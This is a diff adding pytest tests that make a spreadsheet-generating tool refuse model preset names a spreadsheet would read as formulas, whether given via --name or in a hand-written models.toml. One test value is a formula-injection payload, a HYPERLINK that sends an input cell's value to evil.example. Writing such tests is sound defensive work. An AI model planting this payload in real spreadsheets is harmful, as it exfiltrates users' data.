@@ -257,3 +257,30 @@ def test_model_add_suggests_formulas_that_parse_whatever_the_name(capsys):
     first = line.split("use it as", 1)[1].strip().split(", =")[0]
     assert first == '=MODEL_SPEC("My ""Q"" 7B", "layers")'
     assert evaluate_formula(first).value == 28
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&Inputs!B5,"Qwen")', "+1", "-cmd", "@SUM(A1)"])
+def test_a_preset_name_a_spreadsheet_would_read_as_a_formula_is_refused(name, capsys):
+    # names are data: written into every edition's cells and typed into formulas, so a name starting with = + - @
+    # (the red team's HYPERLINK sending an input's value elsewhere, shown as "Qwen2.5-72B") never becomes a preset
+    code = main(["model", "add", str(DATA / "qwen2.5-7b.json"), f"--name={name}"])
+    err = capsys.readouterr().err
+    assert code == 2 and err.count("\n") == 1
+    assert "which a spreadsheet reads as the start of a formula" in err and "(--name)" in err
+    assert not (user_catalog_dir() / "models.toml").exists()
+
+
+def test_a_hand_written_user_preset_with_such_a_name_is_refused_with_the_file():
+    folder = user_catalog_dir()
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "models.toml").write_text(
+        "[sources]\n'user:a' = 'mine'\n\n[models.'=EVIL()']\nsource = 'user:a'\nparams_b = 7.6\nlayers = 28\n"
+        "hidden = 3584\nheads = 28\nkv_heads = 4\nhead_dim = 128\nvocab = 152064\ncontext = 32768\n",
+        encoding="utf-8",
+    )
+    from xlsxplan.catalog import catalog_problems, refresh
+
+    refresh()
+    problems = catalog_problems()
+    assert any("models.toml" in p and "=EVIL()" in p and "formula" in p for p in problems), problems
+    assert "=EVIL()" not in x.model_names()
